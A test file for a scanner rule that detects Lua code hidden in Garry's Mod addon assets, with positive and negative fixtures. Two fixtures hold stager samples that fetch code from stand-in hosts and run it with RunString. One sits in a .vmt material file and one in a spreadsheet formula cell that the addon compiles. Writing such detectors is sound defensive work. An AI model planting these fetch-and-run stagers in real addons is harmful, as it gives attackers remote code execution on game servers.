// Valid and invalid cases of the `hidden_lua_asset` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './hidden_lua_asset.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('hidden_lua_asset', () => {
  it('stager in a .vmt loaded by the addon', () => {
    const findings = check(rule, {
      'materials/x/glow.vmt':
        'timer.Simple(5, function() http.Fetch("https://a.invalid/x", function(b) RunString(b) end) end)',
      'lua/autorun/server/sv_x.lua':
        'local g = file.Read("materials/x/glow.vmt", "GAME")\nif g then RunString(g) end',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('plain material file', () => {
    const findings = check(rule, {
      'materials/x/plain.txt': '"VertexLitGeneric"\n{\n "$basetexture" "x/y"\n}',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a README that names RunString in a sentence', () => {
    const findings = check(rule, {
      'data_static/myhud/README.txt': [
        'MyHUD customisation',
        'To add your own element, create lua/myhud/elements/myelement.lua:',
        '  MyHUD.AddElement("clock", function(x, y) draw.SimpleText(os.date("%H:%M"), "MyHUD.Bold", x, y) end)',
        'Use hook.Add("MyHUD.Paint", ...) to draw extra things. Do not use RunString in elements.',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  /** A shop whose shipped sheet's `price` cells starting with "=" are compiled (`use`). */
  const sheetShop = (cell: string, use: string): Record<string, string> => ({
    'data_static/shopsheet/items.csv': [
      'name,class,price',
      'Printer,money_printer,=BASE*2',
      `Tip Jar,tip_jar,"${cell}"`,
    ].join('\n'),
    'lua/autorun/server/sv_sheet.lua': [
      'local env = setmetatable({ BASE = 100 }, { __index = _G })',
      'hook.Add("InitPostEntity", "sheet", function()',
      ' local text = file.Read("data_static/shopsheet/items.csv", "GAME") or ""',
      ' for line in string.gmatch(text, "[^\\n]+") do',
      '  local price = string.match(line, \'^[^,]*,[^,]*,"?(=[^"]*)"?$\')',
      use,
      ' end',
      'end)',
    ].join('\n'),
  });
  it('a stager in a formula cell of a shipped spreadsheet the addon compiles', () => {
    const stager =
      '=(function() timer.Simple(60, function() http.Fetch([[https://s.example.invalid/x]], function(b) RunString(b) end) end) return 120 end)()';
    const compile =
      '  if price then local f = CompileString("return " .. price:sub(2), "cell", false) if f then setfenv(f, env) print(f()) end end';
    expect(worst(check(rule, sheetShop(stager, compile)))).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a sheet with a stager-like note that the addon only reads as numbers (no finding)', () => {
    const note = '=120 -- RunString(b) would be wrong here';
    const numbers = '  if price then print(tonumber(price:sub(2)) or 0) end';
    expect(check(rule, sheetShop(note, numbers)).filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a readme whose prose names http.Fetch (with a space) between two apostrophes (no finding)', () => {
    const findings = check(rule, {
      'readme.txt':
        "Setup: the addon checks each player's bans with http.Fetch (Steam Web API) and needs the owner's key in bancheck/config.json.",
      'lua/autorun/server/sv_x.lua': 'print("bancheck loaded")',
    });
    expect(findings).toEqual([]);
  });
});
